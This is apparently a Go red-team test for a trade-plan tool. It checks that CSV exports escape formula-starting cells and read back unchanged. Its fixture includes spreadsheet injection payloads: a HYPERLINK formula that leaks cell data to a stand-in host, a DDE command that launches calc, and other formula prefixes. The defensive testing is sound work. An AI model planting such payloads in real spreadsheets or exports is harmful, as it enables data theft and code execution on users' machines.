package plan

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tradeplan/tradeplan"
)

// TestAttackPlanCSVFormula (redteam, wave 6): a plan's lines written as CSV
// (the plan's download for an amendment, on the web and the API) are
// opened in a spreadsheet: no cell of applicant text starts a formula. The
// file read back gives the lines as written, formulas and all, so an
// amendment made from the download changes nothing it did not mean to.
func TestAttackPlanCSVFormula(t *testing.T) {
	p, err := Parse([]byte(`plan: {id: p, organisation: O, country: KP, period: 2027-Q1}
lines:
  - {direction: import, description: '=HYPERLINK("http://x.example/?"&A1,"click")', hs: "100630", quantity: 1.5, unit: t, value: 10, currency: USD,
     partner: {name: "@SUM(1+1)", country: CN}, vessel: {name: "+cmd|' /C calc'!A0"}, purpose: "-2+3", exemption: "'=quoted already", crossing: "namyang-tumen"}
  - {direction: import, description: "'plain with apostrophe", hs: "100630", quantity: 2, unit: t, partner: {name: "＝SUM(1)", country: CN}}
`), "s.yaml", YAML)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Write(&b, p, CSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if !strings.HasPrefix(c, "'") && tradeplan.CSVFormula(c) {
				t.Errorf("cell %q starts a formula:\n%s", c, b.String())
			}
		}
	}
	q, err := Read(bytes.NewReader(b.Bytes()), "again.csv", CSV)
	if err != nil {
		t.Fatalf("%v\n%s", err, b.String())
	}
	if d := sameLines(p, q); d != "" {
		t.Errorf("read back: %s\n%s", d, b.String())
	}
	if !strings.Contains(b.String(), `'=HYPERLINK`) {
		t.Errorf("the formula is not kept as text:\n%s", b.String())
	}
}
